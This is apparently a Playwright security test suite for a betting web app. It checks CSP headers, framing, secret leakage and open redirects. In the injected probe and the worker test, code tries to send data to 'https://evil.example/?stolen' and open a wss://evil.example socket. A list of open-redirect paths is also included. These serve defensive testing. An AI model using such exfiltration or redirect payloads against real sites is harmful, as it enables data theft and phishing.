import { readFileSync } from "node:fs";
import { eventsOf, flawsOf, keptLog } from "./kit/kept-log.ts";
import { keptSlice } from "./kit/kept-slice.ts";
import { demoLogin } from "./kit/player.ts";
import { expect, test } from "./kit/staged.ts";

test.use({ onDisk: true });

test("every page says what it may do, and no more", async ({ request, engine, staged }) => {
  expect(staged).toBeUndefined();
  const { host } = new URL(engine.origin);
  const policy = [
    "default-src 'none'",
    "script-src 'self'",
    "style-src 'self' 'sha256-47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='",
    "img-src 'self' data:",
    "font-src 'self'",
    `connect-src 'self' ws://${host} wss://${host}`,
    "frame-src 'self'",
    "worker-src 'self'",
    "manifest-src 'self'",
    "object-src 'none'",
    "base-uri 'none'",
    "form-action 'self'",
    "frame-ancestors 'none'",
    "require-trusted-types-for 'script'",
    "trusted-types slipstream-worker dompurify",
  ].join("; ");
  for (const path of ["/", "/Sport/LiveList", "/Account/BetHistory", "/Sports/Prematch/Soccer?shareCode=x", "/inspector", "/mobile"]) {
    const headers = (await request.get(path)).headers();
    expect(headers, path).toMatchObject({
      "content-security-policy": policy,
      "x-content-type-options": "nosniff",
      "referrer-policy": "no-referrer",
      "cross-origin-opener-policy": "same-origin",
      "cross-origin-resource-policy": "same-origin",
      "permissions-policy": "camera=(), microphone=(), geolocation=(), payment=()",
      "x-frame-options": "DENY",
      "content-type": "text/html; charset=utf-8",
    });
    // Loopback has no TLS to insist on.
    expect(headers["strict-transport-security"]).toBeUndefined();
  }
  const html = await (await request.get("/")).text();
  expect(html.match(/<script(?![^>]*\bsrc=)|<style|\son\w+=|https?:\/\//gi)).toBeNull();
  const call = await request.get("/api/v2/sports/menu");
  expect(call.headers()).toMatchObject({ "cache-control": "no-store", "x-content-type-options": "nosniff" });
  expect((await request.get("/", { headers: { host: "evil.example" } })).status()).toBe(403);
  expect((await request.get("/", { headers: { origin: "https://evil.example" } })).status()).toBe(403);
});

test("a whole bet breaks no rule of the page or of a worker, and the feed outlives two keepalives", async ({ player, page, workers, dev }) => {
  // What the policy refuses would be a console error, which fails the test.
  await page.addInitScript(() => {
    window.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => console.error(`refused: ${violatedDirective} ${blockedURI}`));
  });
  const live = await player.addLive();
  const since = Date.now();
  await player.logIn();
  await player.placeBet.click();
  await page.getByRole("dialog", { name: "Bet placed" }).getByRole("link", { name: "Check Bet History" }).click();
  await expect(page.getByRole("tabpanel", { name: "Bets" }).getByRole("listitem").first()).toBeVisible();
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Live" }).click();
  await expect(page.getByTestId("fixture").first()).toBeVisible();

  // Nothing is published meanwhile: only the keepalive, every 10 s, holds the line.
  await expect.poll(() => Date.now() - since, { timeout: 40_000, intervals: [1_000] }).toBeGreaterThan(22_000);
  await player.addFirstOpenPrice();
  await dev.changeOutcome({ ...live, odds: 7.77, active: true });
  await expect(page.locator("main")).toContainText("7.77");
  expect(eventsOf(await keptLog(page), "FeedLost")).toEqual([]);
  expect(workers.started.filter((script) => /\/client\.worker-/.test(script))).toHaveLength(1);
  expect(workers.complaints).toEqual([]);
});

/** Runs inside a script that the policy lets in, as injected code would. */
const probe = `
globalThis.__tried = (async () => {
  const attempt = async (name, act) => {
    try { await act(); return [name, "allowed"]; } catch (error) { return [name, "refused"]; }
  };
  return Object.fromEntries(await Promise.all([
    attempt("eval", () => (0, eval)("1")),
    attempt("Function", () => new Function("return 1")()),
    attempt("foreign fetch", () => fetch("https://evil.example/?stolen")),
    attempt("foreign socket", () => new Promise((done, fail) => {
      document.addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) => {
        if (violatedDirective === "connect-src" && blockedURI.startsWith("wss://evil")) fail(new Error("refused"));
      });
      const socket = new WebSocket("wss://evil.example/");
      socket.onopen = done;
    })),
    attempt("innerHTML", () => { document.createElement("div").innerHTML = "<b>x</b>"; }),
    attempt("inline script", () => { document.createElement("script").textContent = "globalThis.__inline = true"; }),
    attempt("policy of its own", () => trustedTypes.createPolicy("mine", { createHTML: (text) => text })),
    attempt("blob worker", () => new Worker(URL.createObjectURL(new Blob(["1"])))),
    attempt("own fetch", () => fetch("/favicon.svg")),
  ]));
})();`;

test.describe("what got in", () => {
  test.use({ expected: /Content Security Policy|Trusted Type|TrustedScript|TrustedHTML|Refused to|evil\.example|requires/i });

  test("[X13] code on the page can neither make code nor send anything away", async ({ page }) => {
    await page.route("**/theme.js", async (route) => {
      const response = await route.fetch();
      await route.fulfill({ response, body: `${await response.text()}\n${probe}` });
    });
    await page.goto("/");
    expect(await page.evaluate("globalThis.__tried")).toEqual({
      eval: "refused",
      Function: "refused",
      "foreign fetch": "refused",
      "foreign socket": "refused",
      innerHTML: "refused",
      "inline script": "refused",
      "policy of its own": "refused",
      "blob worker": "refused",
      "own fetch": "allowed",
    });
  });

  test.describe("in a worker", () => {
    // Playwright runs code in the worker of one page.
    test.use({ ownClient: true });

    test("[X13] code in a worker can send nothing away", async ({ page, workers }) => {
    await page.goto("/Sport/LiveList");
    await expect.poll(() => page.workers().length).toBe(1);
    await page.workers()[0]?.evaluate(() => fetch("https://evil.example/?stolen").catch(() => undefined));
    await expect.poll(() => workers.complaints.join("\n")).toMatch(/^worker .*\/client\.worker-.*: refused: connect-src https:\/\/evil\.example/m);
    expect(workers.requests.join("\n")).not.toContain("evil.example");
    });
  });

  test("[X7] nobody can frame the site", async ({ page, engine }) => {
    await page.goto("about:blank");
    await page.setContent(`<iframe src="${engine.origin}/" title="framed"></iframe>`);
    await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/);
    await expect(page.frameLocator("iframe").locator("#root")).toHaveCount(0);
  });
});

test("[A11, A11 deposit] a secret is in no address, no console line, no log and no recording", async ({ player, page, workers }, testInfo) => {
  const wrong = "Canary-5f2c-wrong-password";
  const lines: string[] = [];
  const addresses: string[] = [];
  page.on("console", (message) => lines.push(message.text()));
  page.on("request", (request) => addresses.push(request.url()));
  page.on("framenavigated", (frame) => addresses.push(frame.url()));

  await page.goto("/?record");
  await page.getByRole("banner").getByRole("button", { name: "Login" }).click();
  await player.fillLogin(wrong);
  await expect(player.dialog.getByRole("alert")).toBeVisible();
  await player.fillLogin();
  await expect(player.balance).toBeVisible();
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Sports" }).click();
  await player.addFirstOpenPrice();
  await player.placeBet.click();
  const placed = page.getByRole("dialog", { name: "Bet placed" });
  await expect(placed).toBeVisible();
  await placed.getByRole("button", { name: "OK" }).click();

  const { token = "" } = (await keptSlice(page, "auth")) as { readonly token?: string };
  expect(token.length).toBeGreaterThan(20);
  const download = page.waitForEvent("download");
  await page.getByRole("button", { name: "Save recording" }).click();
  const file = testInfo.outputPath("session.recording.ndjson");
  await (await download).saveAs(file);
  await expect.poll(async () => eventsOf(await keptLog(page), "BetPlaced").length).toBe(1);
  const log = await keptLog(page);
  expect(flawsOf(log)).toEqual([]);

  const places = { addresses: [...addresses, ...workers.requests].join("\n"), lines: [...lines, ...workers.complaints].join("\n"), log: JSON.stringify(log), recording: readFileSync(file, "utf8") };
  expect(places.recording).toContain("place-bet");
  const secrets = { wrong, password: demoLogin.password, token, mobile: demoLogin.mobile.slice(1) };
  for (const [where, text] of Object.entries(places))
    for (const [what, secret] of Object.entries(secrets)) expect(text.includes(secret), `${what} in ${where}`).toBe(false);
});

test("[X4] an address cannot lead a player away", async ({ player, page, engine }) => {
  for (const path of ["//evil.example", "/.//evil.example/Account/Me", "/Account/..//evil.example", "/%5Cevil.example", "/Account/Me?returnUrl=//evil.example"])
    await test.step(path, async () => {
      await page.goto(`${engine.origin}${path}`, { waitUntil: "commit" });
      await expect(page.locator("main").getByRole("heading").first()).toBeVisible();
      expect(new URL(page.url()).origin).toBe(engine.origin);
    });
  await player.fillLogin();
  await expect(player.balance).toBeVisible();
  await expect(page).toHaveURL(`${engine.origin}/Account/Me?returnUrl=//evil.example`);
});
